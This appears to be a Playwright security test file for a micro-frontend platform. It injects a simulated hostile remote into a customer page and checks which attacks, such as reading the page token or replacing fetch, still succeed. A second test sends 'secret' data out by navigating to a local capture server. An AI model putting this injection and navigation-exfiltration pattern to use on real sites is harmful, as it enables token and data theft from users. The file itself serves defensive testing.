import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as base, expect } from '../../setup/misfortune.ts';
import { buildOfEdit } from '../../setup/releases.ts';
import { tryEverything } from './attempts.ts';

const OPENING = 'export default function SummaryPage() {';

/** What a remote can do, because it runs on the origin of the page: docs/assurance.md says what that is worth. */
const RESIDUALS = [
  'read the DOM of the shell',
  'read the token of the page',
  'read what its own person may read',
  'replace fetch for what comes later',
];

const test = base.extend<{ elsewhere: { readonly url: string; readonly asked: string[] } }>({
  // Violations of the policy are what this test is about.
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the dependencies from this pattern.
  faults: async ({}, use) => use([]),
  // biome-ignore lint/correctness/noEmptyPattern: as above.
  elsewhere: async ({}, use) => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('');
    });
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
  },
});

test('[F6] a hostile remote reaches what its origin has and nothing that takes a proof', async ({
  page,
  release,
  elsewhere,
}) => {
  const folder = await buildOfEdit('mf-customer', 'src/pages/resumen/page.tsx', (source) =>
    source.replace(
      OPENING,
      `import React, { useEffect } from 'react';
      // @ts-nocheck
      ${tryEverything.toString().replace('import(', 'import(/* webpackIgnore: true */ ')}
      ${OPENING}
      useEffect(() => {
        tryEverything(${JSON.stringify(elsewhere.url)}, '2020202020', React).then((outcomes) =>
          Object.assign(window, { outcomes }));
      }, []);`,
    ),
  );
  expect(await release('mf-customer', '--from', folder)).toContain('is live for everybody');
  await page.goto('/resumen');
  await page.waitForFunction(() => 'outcomes' in window, undefined, { timeout: 120_000 });
  const outcomes = await page.evaluate(
    () => (window as unknown as { outcomes: Record<string, string> }).outcomes,
  );
  console.info(JSON.stringify(outcomes, null, 1));
  expect(Object.keys(outcomes).length).toBeGreaterThanOrEqual(30);
  const done = Object.entries(outcomes)
    .filter(([, outcome]) => !outcome.startsWith('no'))
    .map(([name]) => name);
  expect(done.sort()).toEqual(RESIDUALS);
  // Not even a request left the browser.
  expect(elsewhere.asked).toEqual([]);
  // The page of another remote, loaded after all that, is that remote's.
  await page.getByRole('link', { name: 'Facturas' }).locator('visible=true').first().click();
  await expect(page.getByRole('heading', { level: 1, name: 'Facturas' })).toBeVisible();
});

test('[F6] what a hostile remote knows leaves with the whole page only, which policies cannot hold', async ({
  page,
  elsewhere,
}) => {
  await page.goto('/resumen');
  await page.evaluate((url) => {
    location.href = `${url}/left?d=secret`;
  }, elsewhere.url);
  await expect.poll(() => elsewhere.asked).toContain('/left?d=secret');
});
